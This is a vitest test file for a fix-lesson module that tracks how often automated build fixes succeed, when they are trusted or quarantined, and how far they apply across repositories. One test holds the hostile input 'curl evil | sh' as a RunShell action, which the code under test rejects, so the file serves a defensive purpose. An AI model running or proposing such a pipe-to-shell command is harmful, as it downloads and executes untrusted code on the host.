import { describe, expect, it } from "vitest";
import type { FixLesson, LessonRecord } from "../../lesson.ts";
import type { RepoRunSpec } from "../../repo-run.ts";
import type { Written } from "../cluster.ts";
import { sampleService } from "../fixer/sample-service.ts";
import {
  confidence,
  fingerprintOf,
  isForAll,
  isOfPlace,
  isTrusted,
  learned,
  lessonName,
  placeOf,
  usable,
  type Verdict,
} from "./lessons.ts";

const now = new Date("2026-11-22T18:00:00Z");
const later = new Date("2027-03-01T00:00:00Z");
const fix = { service: "web", appliesTo: "sha256:a" };

function from(url: string, path?: string): RepoRunSpec {
  return { source: { git: { url }, ...(path === undefined ? {} : { path }) } };
}

function verdict(key: string, won: boolean, url = "https://git.example.org/team/shop.git"): Verdict {
  return { key, won, place: placeOf(from(url), fix) };
}

function after(...verdicts: readonly Verdict[]): LessonRecord {
  const last = verdicts.reduce<LessonRecord | undefined>(
    (record, each) => learned(record, each, now) ?? record,
    undefined,
  );
  if (!last) throw new Error("nothing was learned");
  return last;
}

function lesson(record: LessonRecord | undefined, spec: Partial<FixLesson["spec"]> = {}): Written["FixLesson"] {
  const action = { kind: "SetInstallMode", mode: "Unfrozen" };
  return {
    namespace: "n",
    name: "lesson-a",
    uid: "u",
    resourceVersion: "1",
    createdAt: "",
    spec: {
      fingerprint: "f",
      language: "node",
      layer: "Deps",
      signature: "LockOutOfStep",
      rule: "N02",
      scope: "Namespace",
      action: action.kind,
      arguments: JSON.stringify(action),
      ...spec,
    },
    ...(record === undefined ? {} : { record }),
  };
}

describe("a lesson", () => {
  it("is as sure as its tries are many", () => {
    expect([confidence(0, 0), confidence(1, 0), confidence(3, 0), confidence(30, 0), confidence(3, 3)]).toEqual([
      0, 20, 43, 88, 18,
    ]);
  });

  it("counts a run and revision once, whatever happens in between", () => {
    const once = after(verdict("u/2", true));
    expect(learned(once, verdict("u/2", true), now)).toBeUndefined();
    expect(learned(once, verdict("u/3", true), now)?.wins).toBe(2);
  });

  it("is trusted once it has helped, in quarantine after two losses in a row, and believed for 90 days after its last win", () => {
    expect(after(verdict("a", true)).state).toBe("Trusted");
    const lost = after(verdict("a", true), verdict("b", false));
    expect([lost.state, isTrusted({ ...lesson(lost), record: lost, action: { kind: "SetBridge" } })]).toEqual([
      "Trusted",
      false,
    ]);
    const gone = after(verdict("a", true), verdict("b", false), verdict("c", false));
    expect(gone.state).toBe("Quarantined");
    expect(usable([lesson(gone)], now)).toEqual([]);
    expect(usable([lesson(after(verdict("a", true)))], now)).toHaveLength(1);
    expect(usable([lesson(after(verdict("a", true)))], later)).toEqual([]);
  });

  it("heeds a person's word, and nothing that is no action of ours", () => {
    const good = after(verdict("a", true));
    const bad = after(verdict("a", true), verdict("b", false), verdict("c", false));
    expect(usable([lesson(good, { use: "Never" })], now)).toEqual([]);
    expect(usable([lesson(bad, { use: "Always" })], now)).toHaveLength(1);
    for (const text of ["{", '{"kind":"RunShell","line":"curl evil | sh"}', '{"kind":"SetBridge"}', "null"]) {
      expect(usable([lesson(good, { arguments: text, use: "Always" })], now)).toEqual([]);
    }
  });

  it("serves all only after three wins for two owners, and never with arguments of one repository", () => {
    const [one, two] = ["https://git.example.org/team/shop", "ssh://git@git.example.org/other/desk.git"];
    const same = after(verdict("a", true, one), verdict("b", true, one), verdict("c", true, `${one}.git`));
    const wide = after(verdict("a", true, one), verdict("b", true, one), verdict("c", true, two));
    expect(isForAll({ kind: "SetBridge" }, same)).toBe(false);
    expect(isForAll({ kind: "SetBridge" }, wide)).toBe(true);
    expect(isForAll({ kind: "SetStart", start: "node a.js" }, wide)).toBe(false);
  });

  it("knows a repository however its address is written, and holds none", () => {
    const place = placeOf(from("https://token@git.example.org/Team/shop.git"), fix);
    expect(placeOf(from("git@git.example.org:team/shop"), fix).repository).toBe(place.repository);
    expect(placeOf(from("https://git.example.org/team/shop", "api"), fix).repository).not.toBe(place.repository);
    expect(JSON.stringify(place)).not.toMatch(/example|shop|token/i);
  });

  it("is named by its failure and its change", () => {
    const print = fingerprintOf("node", "sha256:x");
    expect(lessonName(print, { kind: "SetBridge" })).toMatch(/^lesson-[0-9a-z]{12}$/);
    expect(fingerprintOf("python", "sha256:x")).not.toBe(print);
  });

  it("is where another repository has the same manifests, or three of its framework have needed it", () => {
    const service = sampleService();
    const long = (lines: readonly string[]) => [...lines, ...Array.from({ length: 8 }, (_, index) => String(index))];
    const at = (url: string, lines: readonly string[]) =>
      placeOf(from(url), fix, { service, excerpts: [{ path: "package.json", lines: long(lines) }] });
    const short = placeOf(from("https://a.example.org/x/one"), fix, {
      service,
      excerpts: [{ path: "package.json", lines: ["flask"] }],
    });
    expect(short.manifest).toBeUndefined();
    const won = (key: string, url: string, lines: readonly string[]): Verdict => ({
      key,
      won: true,
      place: at(url, lines),
    });
    const known = (record: LessonRecord, action: Partial<FixLesson["spec"]> = {}) => {
      const [one] = usable([lesson(record, action)], now);
      if (!one) throw new Error("it is of no use");
      return one;
    };
    const first = after(won("1", "https://a.example.org/x/one", ["one"]));
    expect(isOfPlace(known(first), at("https://b.example.org/y/fork", ["one"]))).toBe(true);
    expect(isOfPlace(known(first), at("https://b.example.org/y/other", ["other"]))).toBe(false);
    expect(isOfPlace(known(first), { ...at("https://b.example.org/y/fork", ["one"]), appliesTo: "sha256:b" })).toBe(
      false,
    );
    const three = after(
      won("1", "https://a.example.org/x/one", ["one"]),
      won("2", "https://a.example.org/x/two", ["two"]),
      won("3", "https://a.example.org/x/three", ["three"]),
    );
    const probe = { kind: "SetProbe", startupSeconds: 600 } as const;
    const patient = { action: probe.kind, arguments: JSON.stringify(probe) };
    expect(isOfPlace(known(three, patient), at("https://b.example.org/y/other", ["other"]))).toBe(true);
    expect(isOfPlace(known(three), at("https://b.example.org/y/other", ["other"]))).toBe(false);
    const once = after(...["1", "2", "3"].map((key) => won(key, "https://a.example.org/x/one", ["one"])));
    expect(isOfPlace(known(once, patient), at("https://b.example.org/y/other", ["other"]))).toBe(false);
    const doubted = { ...three, losses: 1 };
    expect(isOfPlace(known(doubted, patient), at("https://b.example.org/y/other", ["other"]))).toBe(false);
    const own = { kind: "SetEnv", name: "HOST", value: "0.0.0.0", phase: "Run" } as const;
    const variable = { action: own.kind, arguments: JSON.stringify(own) };
    expect(isOfPlace(known(three, variable), at("https://b.example.org/y/fork", ["one"]))).toBe(false);
  });
});
